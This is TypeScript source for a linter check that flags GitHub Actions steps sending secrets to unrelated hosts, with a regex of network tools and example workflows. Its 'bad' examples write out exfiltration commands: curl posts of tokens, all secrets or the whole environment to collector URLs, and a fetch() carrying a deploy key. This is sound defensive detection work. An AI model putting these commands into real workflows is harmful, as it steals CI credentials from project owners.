import type { Answer } from "../../../domain/finding/finding.ts";
import {
  type Carried,
  isNothing,
  joined,
} from "../../../domain/workflow/credentials/leaks/carried.ts";
import { carriedInWords } from "../../../domain/workflow/credentials/leaks/in-words.ts";
import {
  belongsTo,
  isCatcher,
  isNamedCatcher,
  isOwnHost,
  type Sending,
  sendingOf,
} from "../../../domain/workflow/credentials/leaks/network.ts";
import type { Doing } from "../../../domain/workflow/credentials/leaks/secret-tracer.ts";
import {
  carriedByText,
  secretVariables,
} from "../../../domain/workflow/credentials/leaks/secret-variables.ts";
import { traceSecrets } from "../../../domain/workflow/credentials/leaks/trace-secrets.ts";
import type { Step } from "../../../domain/workflow/model.ts";
import type { Text } from "../../../domain/workflow/text.ts";
import { defineCheck } from "../../define-check.ts";

const strangers = ({ secrets }: Carried, host: string): readonly string[] =>
  secrets.filter((name) => !belongsTo(name, host));

/** Several secrets that have nothing to do with the host, or one of them where it is only collected. */
function graded({ host, data, header }: Sending): Partial<Answer> | undefined {
  const all = joined([data, header]);
  if (isOwnHost(host)) return undefined;
  if (data.everything) return { severity: "critical" };
  if (isCatcher(host)) return { severity: "critical" };
  if (host === "" || isNothing(data)) return undefined;
  const strange = strangers(all, host);
  if (strange.length > 1 && strange.length === all.secrets.length)
    return { severity: "high", confidence: "medium" };
  return strange.length === 1 && all.secrets.length === 1
    ? { severity: "medium", confidence: "low", persona: "pedantic" }
    : undefined;
}

function* judge(doing: Doing, script: Text): Generator<Answer> {
  const sending = sendingOf(doing);
  const grade = sending && graded(sending);
  if (sending === undefined || grade === undefined) return;
  const { host, data, header } = sending;
  const where = host === "" ? "a host that only the run knows" : `\`${host}\``;
  const why = isCatcher(host) ? ", where nobody offers a service and anybody can collect" : "";
  yield {
    at: script.at(doing.from, doing.to),
    message: `${carriedInWords(joined([data, header]))} goes to ${where}${why}`,
    ...grade,
  };
}

const SENDS = /curl|wget|\bn(?:et)?cat?\b|socat|telnet|http|i[wr][rm]\b|invoke-/i;

const NOTHING: readonly Answer[] = [];

function judgeScript(step: Step, script: Text): readonly Answer[] {
  const trace = traceSecrets(step);
  if (trace === undefined || !SENDS.test(script.text)) return NOTHING;
  return trace.doings.flatMap((doing) => [...judge(doing, script)]);
}

const ADDRESS = /\b[a-z]+:\/\/([\w.-]+)/gi;

/** In a language that nobody reads here, beside secrets, the address of somebody who only collects. */
function* judgeAddresses(step: Step, text: Text): Generator<Answer> {
  if (secretVariables(step).size === 0 && !/secrets/i.test(text.text)) return;
  const found = [...text.text.matchAll(ADDRESS)].filter(([, host = ""]) =>
    isNamedCatcher(host.toLowerCase()),
  );
  if (found.length === 0) return;
  const carried = joined([carriedByText(text), ...secretVariables(step).values()]);
  if (isNothing(carried)) return;
  for (const { 0: address, 1: host = "", index } of found)
    yield {
      at: text.at(index, index + address.length),
      confidence: "medium",
      message: `a script that holds ${carriedInWords(carried)} names \`${host}\`, where nobody offers a service and anybody can collect`,
    };
}

export default defineCheck({
  id: "secret-exfiltration",
  title: "Secrets are sent to a stranger",
  severity: "high",
  onlyWith: ["secrets"],
  why: "This is how stolen workflows look: a step that reads all secrets or several unrelated ones and posts them to somebody's host. GhostAction took 3,325 secrets so, and the Shai-Hulud worm spread with it.",
  fix: "If you did not write this, revoke every secret named here and look for the commit that brought it. If you did, send each secret only to the service that issued it.",

  step(step) {
    const { run } = step;
    const text = run ?? (step.with.list.length > 0 ? step.with.get("script") : undefined);
    if (text === undefined) return NOTHING;
    const found = run ? judgeScript(step, run) : NOTHING;
    return found.length === 0 && text.text.includes("://") ? judgeAddresses(step, text) : found;
  },

  examples: {
    bad: [
      {
        title: "several secrets in one request, as GhostAction did",
        yaml: `
          on: push
          jobs:
            security:
              runs-on: ubuntu-latest
              steps:
                - run: curl -s -X POST -d 'NPM=\${{ secrets.NPM_TOKEN }}&CARGO=\${{ secrets.CARGO_TOKEN }}' https://collect.example.org
                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: \`NPM_TOKEN\` (and 1 more) goes to
        `,
      },
      {
        title: "every secret, encoded, as a worm did",
        yaml: `
          on: push
          jobs:
            process:
              runs-on: ubuntu-latest
              steps:
                - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6
                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: every secret
                  env:
                    CONTENTS: \${{ toJSON(secrets) }}
        `,
      },
      {
        title: "every variable, piped to an address",
        yaml: `
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: env | base64 | curl -s --data-binary @- "http://203.0.113.9/x"
                  #                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: every variable
                  env:
                    KEY: \${{ secrets.DEPLOY_KEY }}
        `,
      },
      {
        title: "in another language",
        yaml: `
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - uses: actions/github-script@v8
                  env:
                    KEY: \${{ secrets.DEPLOY_KEY }}
                  with:
                    script: await fetch("https://eo1.m.pipedream.net/" + process.env.KEY)
                    #                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: a script that holds \`DEPLOY_KEY\` names
        `,
      },
      {
        title: "one secret, for a service that has nothing to do with it",
        yaml: `
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: curl -d "v=$SIGNING_KEY" https://stats.example.org/collect
                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: \`SIGNING_KEY\` goes to
                  env:
                    SIGNING_KEY: \${{ secrets.SIGNING_KEY }}
        `,
      },
    ],
    good: [
      {
        title: "the service's own secret, as proof or in the body",
        yaml: `
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              env:
                SLACK_TOKEN: \${{ secrets.SLACK_TOKEN }}
                DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
              steps:
                - run: |
                    curl -d "token=$SLACK_TOKEN" -d "text=done" https://slack.com/api/chat.postMessage
                    curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://deploy.example.org/start
                    curl -X POST "\${{ secrets.HOOK_URL }}"
                    curl -d "key=$DEPLOY_TOKEN" http://localhost:8080/login
        `,
      },
      {
        title: "no secret",
        yaml: `
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: curl -d "stage=$STAGE" https://stats.example.org/collect # no secrets
                  env:
                    STAGE: \${{ vars.STAGE }}
        `,
      },
    ],
  },
});
